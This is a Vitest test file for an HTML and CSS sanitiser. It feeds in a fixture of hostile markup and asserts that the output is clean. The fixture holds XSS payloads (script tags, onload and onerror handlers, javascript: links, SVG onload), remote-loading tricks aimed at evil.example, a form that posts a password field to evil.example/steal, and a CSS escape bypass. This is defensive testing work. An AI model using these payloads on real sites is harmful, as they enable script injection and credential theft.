import { describe, expect, it } from 'vitest';
import { findUnsafe, IMAGE_PLACEHOLDER, sanitiseHtml, scrubCss } from '../../../../src/admin/ui/sanitise-html.js';

const HOSTILE = [
  '<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">',
  '<script>window.__pwned = 1</script><link rel="stylesheet" href="http://evil.example/a.css">',
  '<style>@import url(http://evil.example/b.css); p { background: url(http://evil.example/c.png) }</style></head>',
  '<body onload="alert(1)"><p onclick="alert(2)" style="color: red; background-image: url(http://evil.example/d.png)">Hello</p>',
  '<a href="javascript:alert(3)">click</a> <a href="https://example.org/offer">offer</a>',
  '<img src="http://evil.example/pixel.gif" onerror="alert(4)"><img src="//evil.example/e.png" srcset="http://evil.example/f.png 2x">',
  '<svg><script>alert(5)</script><image href="http://evil.example/g.png"/></svg><math><mi xlink:href="javascript:alert(6)">x</mi></math>',
  '<form action="http://evil.example/steal"><input name="password"><button>go</button></form>',
  '<table background="http://evil.example/h.png"><tr><td>cell</td></tr></table><iframe src="http://evil.example/"></iframe>',
  '<object data="http://evil.example/o"></object><embed src="http://evil.example/e"></body></html>',
].join('');

describe('sanitiseHtml', () => {
  const result = sanitiseHtml(HOSTILE);

  it('keeps the text and removes every script, handler, loader and form', () => {
    expect(result.failedClosed).toBe(false);
    expect(result.html).toContain('Hello');
    expect(result.html).toContain('cell');
    for (const gone of [
      '<script',
      'onload',
      'onclick',
      'onerror',
      'javascript:',
      '<meta',
      '<base',
      '<link',
      '<style',
      '@import',
      'url(',
      'srcset',
      'background=',
      '<svg',
      '<math',
      '<form',
      '<input',
      '<iframe',
      '<object',
      '<embed',
      'evil.example/pixel',
    ]) {
      expect(result.html, gone).not.toContain(gone);
    }
    expect(result.html).toContain('color: red');
  });

  it('replaces remote images with the placeholder and counts them', () => {
    expect(result.remoteImages).toBe(2);
    expect(result.html.split(IMAGE_PLACEHOLDER).length - 1).toBe(2);
  });

  it('turns links into text with the target as a tooltip', () => {
    expect(result.html).not.toMatch(/href=/);
    expect(result.html).toContain('title="https://example.org/offer"');
  });

  it('the second look finds what DOMPurify would have missed, and passes clean output', () => {
    expect(findUnsafe(result.html)).toBeNull();
    expect(findUnsafe('<p onmouseover="x">a</p>')).toBe('onmouseover=');
    expect(findUnsafe('<a href="http://x">a</a>')).toBe('href=');
    expect(findUnsafe('<svg></svg>')).toBe('<svg>');
    expect(findUnsafe('<p style="background:url(http://x)">a</p>')).toBe('style with url()');
  });

  it('keeps inline data images of raster types only', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitiseHtml(`<img src="${png}">`).html).toContain(png);
    expect(sanitiseHtml('<img src="data:image/svg+xml,<svg onload=alert(1)>">').html).toContain(IMAGE_PLACEHOLDER);
  });
});

describe('scrubCss', () => {
  it('removes url(), @import and image-set, and drops CSS with escapes', () => {
    expect(scrubCss('a{background:url("http://x")}')).toBe('a{background:none}');
    expect(scrubCss('@import "http://x/a.css"; p{color:red}')).toBe(' p{color:red}');
    expect(scrubCss('p{background:image-set("x.png" 1x)}')).not.toContain('image-set');
    expect(scrubCss('p{background:u\\72l(http://x)}')).toBe('');
    expect(scrubCss('p{/* url( */color:blue}')).toBe('p{color:blue}');
  });
});
